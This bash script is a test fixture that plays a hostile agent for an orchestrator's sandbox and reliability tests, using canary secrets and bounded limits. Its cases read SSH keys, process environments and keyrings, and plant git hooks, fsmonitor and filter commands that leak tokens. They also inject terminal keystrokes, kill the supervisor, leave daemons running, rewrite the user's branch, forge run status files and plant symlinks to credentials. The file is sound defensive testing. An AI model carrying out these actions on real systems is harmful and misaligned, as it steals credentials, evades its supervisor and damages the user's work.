#!/usr/bin/env bash
# A hostile agent for test/reliability/hostile.mjs, steered by its environment:
#   KIND     what it does (the cases below)      VARIANT  which form of it (a, b, c, ...)
#   SIZE     bytes of output                     SPLIT    where a secret is cut across writes
#   COUNT    how many processes or refs          SCRATCH  a folder outside the repository, where
#            it records the pids that must not outlive the task (pids/*) and what it did
#   API_TOKEN, DB_PASSWORD  the canary secrets (passed by termorch as secret env vars)
# The sandbox pass's kinds (readkey, readother, procenv, connect, and issue 35's kernel, tty,
# keyring, unixsock, earlier; links plants) say what they read or reached as
# `probe NAME open` or `probe NAME blocked` and print what they read (so a canary shows in their
# log); what the others write or plant, the campaign looks for on the host. In a sandbox, SCRATCH
# is in the agent's private /tmp: what it records there never reaches the host.
# Everything it does is bounded: sizes, counts and the fork limit are the campaign's.
set -u
cd "$(pwd -P)" || exit 99
wt=$(git rev-parse --show-toplevel 2>/dev/null || pwd)
common=$(git rev-parse --path-format=absolute --git-common-dir 2>/dev/null || echo "")
main=${common%/.git}
pids=$SCRATCH/pids
mkdir -p "$pids"
V=${VARIANT:-a}
record() { echo "$1" > "$pids/$2"; }
probe() {
  local name=$1
  shift
  if "$@"; then echo "probe $name open"; else echo "probe $name blocked"; fi
}
node_out() { node -e "$1"; }

case $KIND in
output)
  line=$(printf 'hostile output %.0s' 1 2 3 4 5 6)
  if [ "$V" = b ]; then yes "$line" | head -c "$SIZE" >&2; else yes "$line" | head -c "$SIZE"; fi
  ;;
binary)
  head -c "$SIZE" /dev/urandom
  head -c $((SIZE / 4)) /dev/urandom >&2
  ;;
longline)
  # One line of SIZE bytes and no newline, on stdout (a) or stderr (b), then the canary after it.
  if [ "$V" = b ]; then head -c "$SIZE" /dev/zero | tr '\0' 'L' >&2; else head -c "$SIZE" /dev/zero | tr '\0' 'L'; fi
  printf '%s' "$API_TOKEN"
  ;;
escapes)
  clip=$(printf 'pwned' | base64)
  printf '\e]0;hostile title\a\e]2;window\e\\\ekname\e\\'
  printf '\e]52;c;%s\a' "$clip"
  printf '\ePtmux;\e\e]52;c;%s\a\e\\' "$clip"
  printf '\ePtmux;\e\e]0;passthrough title\a\e\\'
  printf '\e[6n\e[c\e]10;?\a\e[?1049h\e[2J\e[?25l\e[?1000h\ec'
  printf 'secret in a title: \e]0;%s\a\n' "$API_TOKEN"
  printf 'secret in a clipboard: \e]52;c;%s\a\n' "$API_TOKEN"
  printf '\e[31mred\e[0m done\n'
  ;;
sigterm)
  # Ignores TERM, HUP and INT; only KILL ends it (the task has a short timeout).
  if [ "$V" = b ]; then
    trap '' TERM HUP INT
    record $$ agent
    while :; do sleep 0.2 || :; done
  fi
  exec perl -e '$SIG{$_} = "IGNORE" for qw(TERM HUP INT); open(my $f, ">", "$ENV{SCRATCH}/pids/agent"); print $f "$$\n"; close $f; sleep 1 while 1'
  ;;
setsid)
  case $V in
  a) setsid bash -c 'echo $$ > "$SCRATCH/pids/daemon"; exec sleep 600' </dev/null >/dev/null 2>&1 & ;;
  b) setsid -f bash -c 'echo $$ > "$SCRATCH/pids/daemon"; exec sleep 600' </dev/null >/dev/null 2>&1 ;;
  # Keeps the task's output pipes open: the supervisor waits for their end.
  c) setsid bash -c 'echo $$ > "$SCRATCH/pids/daemon"; while :; do echo tick; sleep 1; done' & ;;
  esac
  for _ in $(seq 1 100); do [ -s "$pids/daemon" ] && break; sleep 0.02; done
  if [ -s "$pids/daemon" ]; then echo "left a daemon behind"; else echo "no daemon started"; fi
  ;;
killsup)
  # Finds its pane supervisor among its ancestors and kills it (in a sandbox, its pid namespace
  # ends below the supervisor: not found).
  p=$$
  found=
  while [ "$p" -gt 1 ]; do
    p=$(awk '{print $4}' "/proc/$p/stat")
    if tr '\0' ' ' < "/proc/$p/cmdline" | grep -q supervisor.pl; then
      found=$p
      echo "killing my supervisor $p"
      if [ "$V" = b ]; then kill -TERM "$p"; else kill -KILL "$p"; fi
      break
    fi
  done
  [ -z "$found" ] && echo "probe kill-supervisor blocked (no supervisor among my ancestors)"
  record $$ agent
  sleep 3
  ;;
rmworktree)
  if [ "$V" = b ]; then echo "garbage" > README.md; fi
  cd / && rm -rf "$wt"
  ;;
gitfile)
  echo "changed" > README.md
  case $V in
  a) echo "gitdir: /nonexistent/hostile" > "$wt/.git" ;;
  b) rm -f "$wt/.git" ;;
  # Points its worktree at the main repository's own git dir: a commit there would land on the
  # user's checked-out branch.
  c) echo "gitdir: $common" > "$wt/.git" ;;
  esac
  ;;
gitcommon)
  echo "changed" > README.md
  hook='#!/bin/sh
echo "$0 ran in $PWD" >> "'"$SCRATCH"'/hooks-ran"
echo "hook: ${API_TOKEN:-no token} ${DB_PASSWORD:-}"
exit 0'
  case $V in
  a)
    mkdir -p "$common/hooks"
    for h in pre-commit commit-msg post-commit pre-merge-commit post-merge reference-transaction post-checkout; do
      printf '%s\n' "$hook" > "$common/hooks/$h"
      chmod +x "$common/hooks/$h"
    done
    ;;
  b)
    mkdir -p "$SCRATCH/hooks"
    for h in pre-commit commit-msg post-commit post-merge reference-transaction post-checkout; do
      printf '%s\n' "$hook" > "$SCRATCH/hooks/$h"
      chmod +x "$SCRATCH/hooks/$h"
    done
    git config --file "$common/config" core.hooksPath "$SCRATCH/hooks"
    ;;
  c) git config --file "$common/config" user.name "$API_TOKEN" ;;
  # Commands git runs from configuration: termorch's git calls would run them with its own
  # environment (the agent's is a filtered one).
  d)
    printf '%s\n' "$hook" > "$SCRATCH/fsmonitor"
    chmod +x "$SCRATCH/fsmonitor"
    git config --file "$common/config" core.fsmonitor "$SCRATCH/fsmonitor"
    ;;
  e)
    printf '#!/bin/sh\necho "$0 ran in $PWD" >> "%s/hooks-ran"\ncat\n' "$SCRATCH" > "$SCRATCH/filter"
    chmod +x "$SCRATCH/filter"
    git config --file "$common/config" filter.hostile.clean "$SCRATCH/filter"
    git config --file "$common/config" filter.hostile.smudge "$SCRATCH/filter"
    git config --file "$common/config" merge.hostile.driver "$SCRATCH/filter %O %A %B"
    echo '* filter=hostile merge=hostile' > .gitattributes
    ;;
  f)
    printf '[core]\n\tfsmonitor = %s/fsmonitor\n' "$SCRATCH" > "$SCRATCH/included"
    printf '%s\n' "$hook" > "$SCRATCH/fsmonitor"
    chmod +x "$SCRATCH/fsmonitor"
    git config --file "$common/config" include.path "$SCRATCH/included"
    ;;
  esac
  ;;
movebranch)
  echo "changed" > README.md
  case $V in
  a)
    tree=$(git -C "$main" rev-parse 'main^{tree}')
    c=$(git -C "$main" commit-tree -p main -m "hostile commit" "$tree")
    git -C "$main" update-ref refs/heads/main "$c"
    echo "$c" > "$SCRATCH/moved-to"
    ;;
  b) git -C "$main" update-ref -d refs/heads/main ;;
  c)
    # Rewinds the user's branch to an unrelated root commit.
    c=$(git -C "$main" commit-tree -m "orphan" "$(git -C "$main" mktree </dev/null)")
    git -C "$main" update-ref refs/heads/main "$c"
    echo "$c" > "$SCRATCH/moved-to"
    ;;
  esac
  ;;
branches)
  echo "changed" > README.md
  for i in $(seq 1 "$COUNT"); do git branch "hostile-$i" >/dev/null; done
  git tag hostile-tag
  run=${TERMORCH_RUN_ID}
  # Impersonates another task's branch and the run's integration branch.
  [ "$V" = b ] && git branch "termorch/$run/good1-x" && git branch "termorch/$run/integration"
  [ "$V" = c ] && git checkout -q -b "hostile-own" && git commit -qam "own commit"
  ;;
outside-allowed)
  mkdir -p src docs
  echo ok > src/ok.txt
  echo bad > docs/bad.txt
  ;;
outside-worktree)
  echo ok > inside.txt
  case $V in
  a) echo "hostile" >> "$main/README.md" ;;
  b) echo "hostile" > "$main/untracked-by-agent.txt" ;;
  # The run directory: forges another task's status and adds a line to the ledger.
  c)
    run_dir=$(cd "$TERMORCH_ARTIFACTS_DIR/../.." && pwd)
    echo '{"task_id":"good1","state":"failed"}' > "$run_dir/status/good1.failed" || :
    echo '{"forged":true}' >> "$run_dir/events.jsonl" || :
    echo "{}" > "$run_dir/execution_report.json" || :
    ;;
  # Beside the repository and in the home: outside anything the task was given.
  d)
    echo "hostile" > "$(dirname "$main")/planted-by-agent.txt"
    echo "hostile" > "$HOME/planted-by-agent.txt"
    ;;
  esac
  ;;
stdin)
  record $$ agent
  case $V in
  a) read -r line; echo "read: ${line:-nothing}" ;;
  b) cat ;;
  # The controlling terminal, if it has one: the pane's.
  c) read -r line </dev/tty; echo "read from the terminal: ${line:-nothing}" ;;
  esac
  ;;
segv)
  echo "about to crash"
  if [ "$V" = b ]; then exec perl -e 'kill "SEGV", $$; sleep 5'; else kill -SEGV $$; fi
  ;;
forks)
  # Bounded: at most COUNT processes, and a per-process limit a little above what the user runs
  # (USER_PROCS: as the campaign counted them, since a sandboxed agent sees only its own).
  n=$(ps -u "$(id -u)" --no-headers | wc -l)
  [ "${USER_PROCS:-0}" -gt "$n" ] && n=$USER_PROCS
  (
    ulimit -u $((n + COUNT)) 2>/dev/null
    i=0
    while [ $i -lt "$COUNT" ]; do
      sleep 600 &
      echo $! > "$pids/fork-$i" || break
      i=$((i + 1))
    done
    echo "forked $i processes"
    if [ "$V" = b ]; then (sleep 600 & echo $! > "$pids/nested"; wait) & fi
  ) 2>/dev/null
  echo "forked"
  [ "$V" = c ] && sleep 600
  ;;
canary)
  t=$API_TOKEN
  s=$DB_PASSWORD
  case $V in
  raw) echo "token: $t" ;;
  split)
    printf 'token: %s' "${t:0:$SPLIT}"
    sleep 0.1
    printf '%s' "${t:$SPLIT}"
    sleep 0.1
    printf ' and %s' "${s:0:$SPLIT}" >&2
    sleep 0.1
    printf '%s\n' "${s:$SPLIT}" >&2
    echo
    ;;
  nonl) printf 'token: %s' "$t" ;;
  stderr) printf 'token: %s\n' "$t" >&2 ;;
  json) node_out 'process.stdout.write(JSON.stringify({t: process.env.DB_PASSWORD, u: process.env.API_TOKEN}) + "\n" + JSON.stringify(process.env.DB_PASSWORD).replace(/[^\x20-\x7e]/g, c => "\\u" + c.charCodeAt(0).toString(16).padStart(4, "0")))' ;;
  url) node_out 'const s = process.env.DB_PASSWORD; process.stdout.write(`?a=${encodeURIComponent(s)}&b=${encodeURIComponent(s).toLowerCase()}\n${new URLSearchParams({s})}`)' ;;
  file)
    echo "the token is $t" > leak.txt
    printf '%s\n' "$s" > leak2.txt
    ;;
  artifact)
    echo "the token is $t" > "$TERMORCH_ARTIFACTS_DIR/leak.txt"
    echo "handoff: $t" > handoff.md
    ;;
  filename)
    echo "innocent" > "name-$t.txt"
    echo "innocent" > "$TERMORCH_ARTIFACTS_DIR/name-$t.txt"
    mkdir -p "$TERMORCH_ARTIFACTS_DIR/dir-$t"
    echo x > "$TERMORCH_ARTIFACTS_DIR/dir-$t/f"
    ;;
  bigartifact)
    # Larger than what is redacted in memory (64 MiB), the secret cut at a chunk's edge or not.
    { head -c "$SIZE" /dev/zero | tr '\0' 'a'; printf '\n%s\n' "$t"; head -c "$SIZE" /dev/zero | tr '\0' 'b'; printf '%s' "$t"; } > "$TERMORCH_ARTIFACTS_DIR/big.txt"
    ;;
  bigfile)
    { head -c "$SIZE" /dev/zero | tr '\0' 'a'; printf '%s\n' "$t"; } > big.txt
    ;;
  symlink)
    ln -s "/nowhere/$t" link-target
    ;;
  commitmsg)
    echo "changed" > README.md
    git commit -qam "leaking $t in a message"
    ;;
  branchonly)
    echo "changed" > README.md
    git branch "leak-$t"
    ;;
  branchname)
    echo "changed" > README.md
    git branch "leak-$t"
    git checkout -q -b "own-$t"
    ;;
  failing)
    echo "token: $t"
    printf 'fatal: %s\n' "$t" >&2
    exit 3
    ;;
  esac
  ;;
readkey)
  # A private key in the home (the campaign's, with a canary in it): its body printed without the
  # BEGIN/END lines (termorch redacts a whole key block in logs, not its lines alone), copied into
  # the artifacts, and read through a symlink in the worktree (removed again: nothing is committed).
  key=$HOME/.ssh/id_ed25519
  probe key-body grep -v -e ----- "$key"
  probe key-artifact cp "$key" "$TERMORCH_ARTIFACTS_DIR/stolen-key"
  ln -s "$key" stolen-link
  probe key-symlink cat stolen-link
  rm -f stolen-link
  ;;
readother)
  case $V in
  # The other tasks' worktrees are beside this one (<per-user folder>/worktrees/<run>/<task>).
  # Waits (bounded) for a good task's work to be there: in a sandbox it never shows.
  a)
    others=$(dirname "$wt")
    for _ in $(seq 1 100); do compgen -G "$others/good*/good/*.txt" >/dev/null && break; sleep 0.05; done
    probe other-list compgen -G "$others/good*/README.md"
    probe other-read cat "$others"/good*/good/*.txt
    ;;
  # Their work once termorch has committed it: the repository's objects (in a sandbox, the real
  # ones behind its copy's alternates), every blob looked at until one is another task's (bounded).
  b)
    other_blob() {
      git cat-file --batch-all-objects --batch-check='%(objecttype) %(objectname)' |
        awk '$1 == "blob" {print $2}' | git cat-file --batch | grep -a "^made by good"
    }
    for _ in $(seq 1 100); do other_blob >/dev/null && break; sleep 0.05; done
    probe other-objects other_blob
    ;;
  esac
  ;;
procenv)
  # termorch's own environment holds a variable (named by ENV_CANARY_NAME) that it passes to no
  # agent: every process's environ (a), then each ancestor's, up to pid 1 (b).
  scan_env() { cat "$@" 2>/dev/null | tr '\0' '\n' | grep -a "^$ENV_CANARY_NAME="; }
  case $V in
  a) probe environ-all scan_env /proc/[0-9]*/environ ;;
  # Its ancestors: termorch's variable in any of them, and the environ of the two that live
  # outside a sandbox (its pane's supervisor and tmux's server) read at all.
  b)
    ancestors=()
    environs=()
    p=$$
    while [ "$p" -gt 1 ]; do
      p=$(awk '{print $4}' "/proc/$p/stat") || break
      ancestors+=("$p")
      environs+=("/proc/$p/environ")
    done
    echo "ancestors: ${ancestors[*]}"
    # Reads the environ of the ancestor whose command line matches $1.
    ancestor_env() {
      local q
      for q in "${ancestors[@]}"; do
        tr '\0' ' ' < "/proc/$q/cmdline" | grep -qE "$1" || continue
        [ -n "$(head -c 64 "/proc/$q/environ" 2>/dev/null | tr -d '\0')" ] && return 0
      done
      return 1
    }
    probe environ-parents scan_env "${environs[@]}"
    probe environ-supervisor ancestor_env 'supervisor\.pl'
    probe environ-tmux ancestor_env '^tmux'
    ;;
  esac
  ;;
connect)
  # ALLOWED: the loopback server on the sandbox's allowlist (REQUEST as the path, its answer
  # printed); DENIED: NAME=HOST:PORT pairs that listen too, but are not on it. HTTP and raw TCP.
  http() { node -e 'fetch(process.argv[1]).then((r) => r.text()).then((t) => console.log(t), () => process.exit(1))' "$1"; }
  raw() { (exec 3<>"/dev/tcp/${1%:*}/${1##*:}") 2>/dev/null; }
  probe connect-allowed http "http://$ALLOWED/$REQUEST"
  for d in $DENIED; do
    probe "connect-http-${d%%=*}" http "http://${d#*=}/$REQUEST"
    probe "connect-tcp-${d%%=*}" raw "${d#*=}"
  done
  ;;
# Issue 35's sandbox cases: the kernel's settings, the terminal, the keyrings, a unix socket in
# sight, an earlier run's artifacts. perl-base for what bash cannot do (ioctl, termios, syscalls).
kernel)
  # Opens a kernel setting for writing, writing nothing: as root, core_pattern set to a |program
  # would have the kernel run it as root outside every namespace at the next crash.
  probe proc-sys perl -e 'sysopen(my $f, "/proc/sys/kernel/core_pattern", 1) or exit 1'
  ;;
tty)
  # A tty agent types into its terminal (TIOCSTI), then reads back what it typed (no echo, not
  # line by line): what is typed there, whatever reads the pane's terminal would read.
  probe tiocsti perl -MPOSIX -e '
    open(my $tty, "+<", "/dev/tty") or exit 1;
    my $t = POSIX::Termios->new; $t->getattr(fileno $tty); my $l = $t->getlflag;
    $t->setlflag($l & ~(ICANON | ECHO)); $t->setcc(VMIN, 0); $t->setcc(VTIME, 1); $t->setattr(fileno $tty, TCSANOW);
    my ($marker, $ok) = ("typed-by-the-agent", 1);
    for my $c (split //, $marker) { my $b = $c; $ok &&= ioctl($tty, 0x5412, $b) }
    my $got = ""; sysread($tty, $got, 64) if $ok;
    $t->setlflag($l); $t->setattr(fileno $tty, TCSANOW);
    exit($ok && $got eq $marker ? 0 : 1)'
  ;;
keyring)
  # KEY_DESC: a key the campaign put in the user's keyring (keyrings are not namespaced), a canary
  # its payload, printed when read; then the session keyring it runs in, described at all.
  keyctl() {
    perl -MPOSIX -e '
      my $nr = { x86_64 => 250, aarch64 => 219 }->{ (POSIX::uname())[4] } or exit 2;
      my ($type, $desc, $buf) = ("user", $ENV{KEY_DESC}, "\0" x 256);
      if ($ARGV[0] eq "user") {
        my $id = syscall($nr, 10, -4, $type, $desc, 0);    # KEYCTL_SEARCH in the user keyring
        my $n = $id > 0 ? syscall($nr, 11, $id, $buf, 256) : -1;    # KEYCTL_READ
        exit 1 if $n <= 0;
        print "read from the keyring: ", substr($buf, 0, $n), "\n";
      } else {
        my $n = syscall($nr, 6, -3, $buf, 256);    # KEYCTL_DESCRIBE of the session keyring
        exit 1 if $n <= 0;
      }' "$1"
  }
  probe keyring-user keyctl user
  probe keyring-session keyctl session
  ;;
unixsock)
  # UNIX_SOCK: a socket a daemon of the user's listens on, in a folder the agent can see; its
  # answer (a canary) printed.
  probe unix-socket perl -MIO::Socket::UNIX -e '
    my $s = IO::Socket::UNIX->new(Peer => $ARGV[0]) or exit 1;
    my $answer = <$s> // exit 1; print $answer' "$UNIX_SOCK"
  ;;
earlier)
  # EARLIER: a file an earlier run (cleaned since) copied into its artifacts, a canary in it.
  probe earlier-artifact cat "$EARLIER"
  ;;
links)
  # Issue 35, item 1: links planted where termorch works after the agent, as the user and outside
  # the sandbox. VICTIM: a file in the home; HIDDEN: ~/.aws/credentials, a canary in it; the key is
  # ~/.ssh/id_ed25519. Each says it planted.
  art=$TERMORCH_ARTIFACTS_DIR
  key=$HOME/.ssh/id_ed25519
  case $V in
  a) ln -s "$VICTIM" "$art/changes.patch" ;;
  b) ln -s "$key" "$art/key" ;;
  c) mv .termorch .termorch-moved && mkdir .termorch && ln -s "$HIDDEN" .termorch/handoff.md ;;
  d) ln -s "$(dirname "$HIDDEN")" out ;;
  e) # The first attempt plants and fails; the retry's log (the report's) says it was planted.
    if [ "${TERMORCH_ATTEMPT:-1}" = 1 ]; then ln -sf "$VICTIM" "$art/prompt.md" && touch "$art/planted"; exit 1; fi
    [ -e "$art/planted" ] ;;
  esac && echo "planted its link"
  ;;
*)
  echo "unknown KIND $KIND" >&2
  exit 98
  ;;
esac
exit 0
